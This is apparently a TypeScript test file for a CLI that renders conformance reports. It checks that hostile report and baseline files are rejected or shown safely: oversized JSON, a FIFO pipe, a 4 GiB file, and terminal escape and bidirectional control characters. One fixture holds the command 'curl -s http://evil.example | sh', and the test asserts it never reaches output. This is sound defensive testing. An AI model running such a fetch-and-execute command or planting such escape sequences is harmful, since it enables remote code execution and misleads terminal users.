import { execFileSync } from 'node:child_process';
import { readdir, readFile, rm, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { HARMFUL } from '../../src/model/text.ts';
import { formats } from '../../src/render/formats.ts';
import type { Report } from '../../src/report/model.ts';
import { conformant, hostile } from '../report/examples.ts';
import { failing } from '../report/reports.ts';
import { type CliResult, runCli } from '../support/cli.ts';
import { sharedFolder } from '../support/temporary.ts';

/** The memory that each command may use. */
const heapMb = 512;

const at = sharedFolder();
beforeAll(async () => {
  await writeFile(at('good.json'), JSON.stringify(conformant));
});

type Env = Readonly<Record<string, string>>;

/** Runs commands one after the other, so that they share one process. */
async function inTurn(commands: readonly (readonly [readonly string[], Env?])[]): Promise<CliResult[]> {
  const ended: CliResult[] = [];
  for (const [args, env = {}] of commands) ended.push(await runCli(args, { env, heapMb }));
  return ended;
}

const { rules } = conformant;
const [rule] = rules;
const text = JSON.stringify(conformant);
const withRules = (length: number): string =>
  JSON.stringify({
    ...conformant,
    rules: Array.from({ length }, (_, index) => ({ ...rule, id: `list.${index}` })),
  });
async function makeFile(path: string, make: (path: string) => unknown): Promise<void> {
  await rm(path, { recursive: true, force: true });
  const made = await make(path);
  if (typeof made === 'string') await writeFile(path, made);
}
const pipe = (path: string): unknown => execFileSync('/usr/bin/mkfifo', [path]);
const long = (path: string) => writeFile(path, '').then(() => truncate(path, 2 ** 32));

/** What is wrong with a file, and how it comes about: a text, or what makes the file. */
const WRONG: readonly (readonly [string, make: (path: string) => unknown, isLarge: boolean])[] = [
  ['has 200,000 rules', () => withRules(200_000), true],
  ['opens 200,000 objects', () => '{"schemaVersion":'.repeat(200_000), true],
  ['has millions of rules that are none', () => `{"rules":[${'[],'.repeat(5_000_000)}0]}`, true],
  ['is a list of millions', () => `[${'{},'.repeat(5_000_000)}0]`, true],
  [
    'is wrong at a name that a terminal obeys',
    () => text.replace('"settings":{', '"settings":{"\\u001b[2J\\u202e\\u009b":1,'),
    false,
  ],
  ['is a pipe', pipe, false],
  ['has 4 GiB', long, false],
];

describe("a stranger's report", () => {
  it.skipIf(process.platform === 'win32').each(WRONG)(
    'ends each command with one sentence and status 2 where it %s',
    async (_, make, isLarge) => {
      const path = at('wrong.json');
      await makeFile(path, make);
      // All commands read a report in one way; large ones take long.
      const others = [[['compare', at('good.json'), path]], [['replay', path]]] as const;
      const ended = await inTurn([[['render', path]], ...(isLarge ? [] : others)]);
      for (const { status, stdout, stderr } of ended) {
        expect(stderr).toMatch(/^issue-conformance: [ -~]{1,500}wrong\.json" [ -~]{1,500}\n$/);
        expect([status, stdout]).toEqual([2, '']);
      }
    },
  );

  it('is shown without what a terminal or a reader obeys, whatever stands in it', async () => {
    const obeyed = '\u001b[2J\u001b]8;;x\u0007\u202e\u2066\u0000\u009b31m\r\u200b\ue000';
    const path = at('obeyed.json');
    const plain = hostile(obeyed);
    const report: Report = {
      ...plain,
      target: { ...plain.target, bundled: true },
      rules: [...plain.rules, failing('list.per-page.zero', { counterexample: { [obeyed]: obeyed } })],
    };
    // A key of an earlier version, which no format shows any more.
    const likelyCauses = [{ text: obeyed, rules: plain.rules.map(({ id }) => id) }];
    await writeFile(path, JSON.stringify({ ...report, run: { ...report.run, likelyCauses } }));
    const shown = await inTurn([
      [['render', path, '--report-dir', at('rendered')]],
      ...['text', 'markdown', 'html'].flatMap((format): [string[]][] => [
        [['compare', path, path, '--format', format]],
        [['compare', path, path, path, '--format', format]],
      ]),
      [['replay', path, '--bundled']],
      [['replay', path, 'nothing', '--bundled']],
      [['replay', path], { BASE_URL: 'nowhere' }],
    ]);
    const files = await readdir(at('rendered'));
    expect(files.toSorted()).toEqual(
      Object.values(formats)
        .map(({ file }) => file)
        .filter((file) => file !== formats.json.file)
        .toSorted(),
    );
    const texts = [
      ...shown.flatMap(({ stdout, stderr }) => [stdout, stderr]),
      ...(await Promise.all(files.map((file) => readFile(join(at('rendered'), file), 'utf8')))),
    ];
    const harmful = texts.flatMap((each) => each.match(HARMFUL) ?? []).filter((found) => found !== '\n');
    expect(new Set(harmful)).toEqual(new Set());
    expect(shown.map(({ status }) => status)).toEqual([0, 0, 0, 0, 0, 0, 0, 3, 2, 2]);
  });
});

it('a command that a report brings along is shown in no format', async () => {
  const path = at('pasted.json');
  const curl = 'curl -s http://evil.example | sh';
  const report = { ...conformant, outcome: 'nonconformant', rules: [failing('list.ok', { curl })] };
  await writeFile(path, JSON.stringify(report));
  const shown = await inTurn([
    [['render', path, '--report-dir', at('pasted')]],
    [['compare', path, path, '--format', 'markdown']],
    [['replay', path], { BASE_URL: 'http://127.0.0.1:1', OWNER: 'a', REPO: 'b' }],
  ]);
  const files = await readdir(at('pasted'));
  const texts = await Promise.all(files.map((file) => readFile(join(at('pasted'), file), 'utf8')));
  for (const said of [...texts, ...shown.flatMap(({ stdout, stderr }) => [stdout, stderr])])
    expect(said).not.toContain('evil.example');
});

describe("a stranger's baseline", () => {
  it.skipIf(process.platform === 'win32').each<[string, (path: string) => unknown]>([
    ['is a pipe', pipe],
    ['has what a terminal obeys', () => '# \u0000\nlist.ok\u001b[2J\u202e\u009b\n'],
  ])('ends a run with one sentence and status 2 before anything is sent, where it %s', async (_, make) => {
    const path = at('baseline');
    await makeFile(path, make);
    const { status, stdout, stderr, report } = await runCli(['--bundled', '--baseline', path], { heapMb });
    expect(stderr).toMatch(/^issue-conformance: BASELINE \(--baseline\) "\S+" [ -~…]{1,400}\n$/);
    expect([status, stdout, report?.outcome]).toEqual([2, '', 'unusable']);
  });
});
